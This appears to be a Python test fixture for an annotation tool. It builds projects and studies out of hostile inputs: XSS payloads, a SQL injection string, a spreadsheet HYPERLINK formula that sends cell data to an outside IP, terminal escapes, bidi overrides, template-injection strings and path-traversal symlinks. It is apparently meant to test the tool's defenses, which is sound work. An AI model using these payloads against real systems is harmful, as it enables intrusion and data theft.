"""A project whose every text wants to do harm."""

from __future__ import annotations

import json
from pathlib import Path

from PIL import Image

from annotator.analyses.notes import keep_note
from annotator.ingest.bringing import bring
from annotator.ingest.formats.brought import Kind
from annotator.ingest.options import ImportOptions
from annotator.store.project import Project, open_project
from annotator.store.study_raters import rename_rater, set_stage
from annotator.store.study_records import Answer
from annotator.studies.kinds import WRITTEN, StudyKind, choices
from annotator.studies.links import invite, join, take_seat
from annotator.studies.settings import StudySettings
from annotator.studies.work import current_desk, give_answer
from annotator.studies.written import Written, write_written
from tests.studies.builders import open_study

SCRIPT = "<script>window.struck=1</script><img src=x onerror=window.struck=1><svg onload=window.struck=1>"
MARKDOWN = "[x](javascript:window.struck=1) ![x](http://198.51.100.7/seen.png) **b** :red[r] $\\frac{1}{2}$ `c` # h"
BIDI = "\u202eevil\u202c \u2066x\u2069 \u200f\u200e\u061c"
ESCAPES = "\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b1m\x08\x7f"
SQL = "'; DROP TABLE item; --\" OR 1=1 %_"
FORMULA = '=HYPERLINK("http://198.51.100.7/?"&A1,"x")'
LONG = "W" * 20_000
ZALGO = "a" + "\u0301\u0323" * 200
TEMPLATE = "{0} {item} %s %(x)s ${HOME} {{7*7}} {% x %} \\u0041 &lt;i&gt; &#x3c;"
TEXTS = (SCRIPT, MARKDOWN, BIDI, ESCAPES, SQL, FORMULA, LONG, ZALGO, TEMPLATE, "+1", "-1", "@a", "\t=1", "\ufeffx")
NAMES = tuple(text for text in TEXTS if text not in (LONG, ZALGO))
LABELS = {"context": "Wall"}  # a choice of the codebook: others are refused
SECRET = "secret-folder-name"


def hostile_project(folder: Path) -> Project:
    """Items, systems, conditions, attributes, notes and image paths made of hostile texts, imported as files are."""
    work = folder / SECRET
    (work / "pictures").mkdir(parents=True)
    Image.new("RGB", (80, 30), "teal").save(work / "pictures" / "ok.png")
    (work / "outside.png").write_bytes((work / "pictures" / "ok.png").read_bytes())
    (work / "pictures" / "link.png").symlink_to(work / "outside.png")
    (work / "pictures" / "folder").symlink_to(work)
    images = ("ok.png", "../outside.png", "link.png", "folder/outside.png", str(work / "outside.png"), SCRIPT[:100])
    items = [
        {
            "id": f"{k} {text[:300].replace(chr(0), '')}".strip(),
            "gold": text,
            "standard": text[::-1],
            "image": images[k % len(images)],
            "benchmark": NAMES[k % len(NAMES)],
            "language": "en",
            "document": text[:200],
            "split": NAMES[(k + 1) % len(NAMES)],
            SCRIPT: text[:500],
            "font": NAMES[(k + 2) % len(NAMES)],
            FORMULA: FORMULA,
        }
        for k, text in enumerate(TEXTS)
    ]
    # Ordinary words too, so that grids and studies have something to place.
    items += [
        {"id": f"w{k}", "gold": word, "language": "en", "benchmark": NAMES[0]}
        for k, word in enumerate(("shop", "open", "coffee", "street", "hotel", "market", "bakery", "garden"))
    ]
    said = [
        {
            "id": item["id"],
            "predicted": TEXTS[(k + 1 + n) % len(TEXTS)] if k < len(TEXTS) else item["gold"] + "x",
            "system": system,
            "condition": condition,
            "raw": SCRIPT,
            "reasoning": MARKDOWN + BIDI,
            "confidence": 0.5,
            SQL: "7",
        }
        for n, (system, condition) in enumerate(((SCRIPT, "default"), (FORMULA, ESCAPES), (MARKDOWN + BIDI, "default")))
        for k, item in enumerate(items)
    ]
    project = open_project(work / "project", create=True)
    for kind, rows, name in ((Kind.ITEMS, items, "items"), (Kind.PREDICTIONS, said, "predictions")):
        path = work / f"{name}<b>.jsonl"
        path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
        bring(kind, path, ImportOptions(images=work / "pictures"), lambda: project)
    return project


def hostile_studies(project: Project) -> dict[str, str]:
    """A study of every kind, and hostile notes; in each a rater with a hostile name gives two answers with hostile words.

    Returns the personal token of the rater by study.
    """
    for key, text in enumerate(TEXTS, start=1):
        keep_note(project, key, text[:2000], (text[:40],))
    return {name: _at_work(project, kind, name) for kind in StudyKind for name in [f"<b>&{kind.value} {FORMULA[:9]}"]}


def _at_work(project: Project, kind: StudyKind, name: str) -> str:
    settings = StudySettings(check_questions=0, check_pass=0, codebook="banglawild" if kind is StudyKind.LABELS else "")
    open_study(project, kind, name=name, overlap=2, settings=settings)
    token = join(project, invite(project, name).study_link.partition("=")[2])
    rater = take_seat(project, token).rater
    with project.write(raises_revision=False) as connection:
        set_stage(connection, rater.key, "rating", 0.0)
        rename_rater(connection, rater, SCRIPT[:40])
    for number, text in enumerate((SCRIPT, FORMULA + BIDI)):
        task = current_desk(project, rater.key).task
        assert task is not None, f"{name} has no task"
        written = Written(text, text[::-1], (), LABELS if kind is StudyKind.LABELS else {})
        value = write_written(written) if kind in WRITTEN else choices(kind, settings)[0]
        answer = Answer(f"{kind}{number}", task.task_key, task.repeat, value, rationale=text)
        assert give_answer(project, rater.key, answer).outcome == "stored"
    return token
